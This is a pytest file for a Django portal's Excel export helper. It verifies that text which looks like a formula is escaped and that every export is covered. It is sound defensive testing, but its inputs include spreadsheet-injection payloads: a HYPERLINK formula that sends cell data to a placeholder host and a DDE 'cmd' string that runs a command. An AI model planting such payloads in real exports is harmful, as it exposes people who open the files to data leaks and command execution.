"""One Excel helper: text is never a live formula, numbers and dates stay typed, one filename
encoding; every export of the portal goes through it."""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from apps.accounts.models import OrgUnit
from apps.cadres.models import Cadre
from apps.core.xlsx import append, safe_value, workbook_bytes, xlsx_response
from apps.dashboard.selectors import SECTION_KEYS
from apps.subsidies.models import CadreBankAccount
from apps.subsidies.services import batch_generate
from apps.volunteers.models import ServiceRecord
from tests.branches.factories import MembershipFactory, PartyBranchFactory
from tests.events.factories import matrix_objects as events_objects
from tests.factories import CadreFactory, OrgUnitFactory
from tests.publicity.factories import SubmissionFactory
from tests.steering.factories import matrix_objects as steering_objects
from tests.subsidies.factories import EntitlementFactory
from tests.volunteers.factories import ActivityFactory, RecordFactory, TeamFactory, VolunteerFactory

FORMULA = '=HYPERLINK("http://x/?"&D3,"查看")'


# --- the helper -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"],
)
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    append(sheet, [text])
    cell = load_workbook(BytesIO(workbook_bytes(book))).active["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'") and cell.value[1:].strip() == text.strip()


def test_numbers_dates_and_decimals_stay_typed_cells():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    append(sheet, [1, 2.5, Decimal("300.00"), date(2026, 1, 2), -7, None, "-", "普通文字"])
    row = next(load_workbook(BytesIO(workbook_bytes(book))).active.iter_rows())
    assert [c.data_type for c in row[:5]] == ["n", "n", "n", "d", "n"]
    assert row[2].value == 300 and row[3].value == datetime(2026, 1, 2) and row[4].value == -7
    assert row[6].value == "-" and row[7].value == "普通文字"


def test_characters_excel_cannot_hold_are_dropped_instead_of_failing():
    assert safe_value("张\x00三\x0b") == "张三"


def test_a_plain_append_to_a_normal_workbook_is_neutralised_before_saving():
    book = Workbook()
    book.active.append([FORMULA])
    cell = load_workbook(BytesIO(workbook_bytes(book))).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "'" + FORMULA)


def test_the_response_has_one_filename_encoding_with_an_ascii_fallback():
    response = xlsx_response(Workbook(), "离退休干部花名册-20261201")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert "filename*=UTF-8''%E7%A6%BB" in disposition
    assert disposition.endswith(".xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


# --- every export of the portal -------------------------------------------------------------


@pytest.fixture
def world(db, city, bureau_staff):
    """A unit, branch, team, cadre and bank with formula text everywhere it can be typed in."""
    unit = OrgUnitFactory(name=FORMULA, kind=OrgUnit.Kind.DISTRICT, parent=city)
    cadre = CadreFactory(
        unit=unit,
        name=FORMULA,
        address=FORMULA,
        original_employer=FORMULA,
        original_post=FORMULA,
        relocated=True,
        relocated_place=FORMULA,
        political_status=Cadre.Political.CPC,
        party_joined_on=date(1960, 3, 1),
    )
    branch = PartyBranchFactory(name=FORMULA, unit=unit)
    MembershipFactory(branch=branch, cadre=cadre)
    entitlement = EntitlementFactory(cadre=cadre)
    CadreBankAccount.objects.create(
        cadre=cadre, bank_name=FORMULA, account_name=FORMULA, account_number="6222020000001234"
    )
    batch, _ = batch_generate(month=date(2026, 12, 1))
    team = TeamFactory(unit=unit, name=FORMULA)
    volunteer = VolunteerFactory(cadre=cadre, teams=[team])
    RecordFactory(
        activity=ActivityFactory(team=team, title=FORMULA),
        volunteer=volunteer,
        status=ServiceRecord.Status.CONFIRMED,
    )
    SubmissionFactory(unit=unit)
    event = events_objects(unit, cadre)["event"]
    round_ = steering_objects(unit)["round"]
    return {
        "cadre": cadre,
        "batch": batch,
        "entitlement": entitlement,
        "event": event,
        "round": round_,
    }


YEAR = {"year": timezone.localdate().year}
XLSX = {"format": "xlsx"}


def _exports(world):
    """(url name, args, query, must contain the formula text)."""
    return [
        ("cadres:export", [], {}, True),
        ("cadres:import_template", [], {}, False),
        *[("dashboard:export", [key], YEAR, False) for key in SECTION_KEYS],
        ("dashboard:annual_export", [], YEAR, True),
        ("publicity:ranking_export", [], YEAR, True),
        ("visits:coverage_export", [], YEAR, True),
        ("subsidies:batch_export", [world["batch"].pk], {}, True),
        ("casework:request_report_export", [], {}, False),
        ("volunteers:report_export", [], {}, True),
        ("branches:medal", [], {**XLSX, **YEAR}, True),
        ("branches:report_compliance", [], {**XLSX, **YEAR, "quarter": 1}, True),
        ("branches:report_unorganised", [], XLSX, False),
        ("branches:report_inactive", [], XLSX, True),
        ("branches:report_attendance", [], {**XLSX, **YEAR}, True),
        ("branches:report_ranking", [], {**XLSX, **YEAR}, True),
        ("events:event_export", [world["event"].pk], {}, True),
        ("steering:round_export", [world["round"].pk], {}, True),
    ]


def _cells(content: bytes):
    book = load_workbook(BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_every_export_writes_formula_text_as_text(client, bureau_staff, world):
    client.force_login(bureau_staff)
    for name, args, query, expected in _exports(world):
        response = client.get(reverse(name, args=args), query)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), name
        assert "filename*=UTF-8''" in response["Content-Disposition"], name
        cells = list(_cells(response.content))
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
        planted = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
        for cell in planted:
            assert cell.data_type == "s" and not cell.value.startswith("="), (name, cell.value)
        if expected:
            assert planted, f"{name} does not show the planted text, the test would prove nothing"


def test_the_register_export_keeps_dates_as_dates(client, bureau_staff, world):
    client.force_login(bureau_staff)
    response = client.get(reverse("cadres:export"))
    sheet = load_workbook(BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = [c for c in sheet[2]]
    joined = row[header.index("入党时间")]
    assert joined.is_date and joined.value == datetime(1960, 3, 1)
    assert row[header.index("姓名")].value == "'" + FORMULA


def test_the_finance_export_keeps_amounts_as_numbers(client, bureau_staff, world):
    client.force_login(bureau_staff)
    response = client.get(reverse("subsidies:batch_export", args=[world["batch"].pk]))
    sheet = load_workbook(BytesIO(response.content)).active
    body = list(sheet.iter_rows(min_row=3))[0]
    assert body[2].value == "'" + FORMULA
    assert body[8].data_type == "n" and Decimal(str(body[8].value)) == Decimal("300.00")


def _url_names(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            ns = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from _url_names(pattern, ns)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{prefix}{pattern.name}", str(pattern.pattern)


def test_no_export_url_is_left_out_of_the_walk(world):
    tested = {name for name, *_ in _exports(world)}
    exports = {
        name
        for name, route in _url_names()
        if ("export" in route or ".xlsx" in route) and not name.startswith("admin:")
    }
    assert exports <= tested, exports - tested
